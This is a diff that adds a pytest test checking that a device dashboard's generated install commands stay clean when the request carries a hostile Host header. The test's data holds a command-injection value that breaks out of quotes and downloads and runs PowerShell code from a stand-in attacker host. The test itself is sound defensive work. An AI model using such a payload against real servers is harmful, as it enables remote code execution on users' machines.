@@ -198,3 +198,15 @@ def test_the_page_adds_a_pc_and_shows_its_key_once(start_server, browser):
     page.click("button.danger:has-text('Remove page-pc')")
     expect(page.locator(".done")).to_contain_text("Removed page-pc")
     context.close()
+
+
+@pytest.mark.no_backend
+def test_a_hostile_host_header_puts_none_of_itself_in_the_install_commands(start_server):
+    # Without ALERT_DASHBOARD_URL the commands name the request's own Host: werkzeug empties one
+    # with quotes or spaces, and install.py quotes whatever it is given (tests/test_devices_install.py).
+    admin = Admin(start_server(**PRIVATE))
+    hostile = "gpus.example.com';iex(iwr -useb http://evil.example/p);'"
+    cookie = "; ".join(f"{c.name}={c.value}" for c in admin.session.cookies)  # requests matches cookies to Host
+    added = admin.post("/api/devices", json={"name": "host-pc"}, headers={"Host": hostile, "Cookie": cookie})
+    assert added.status_code == 201
+    assert not [c for c in added.json()["install"].values() if "iex" in c or "evil" in c]
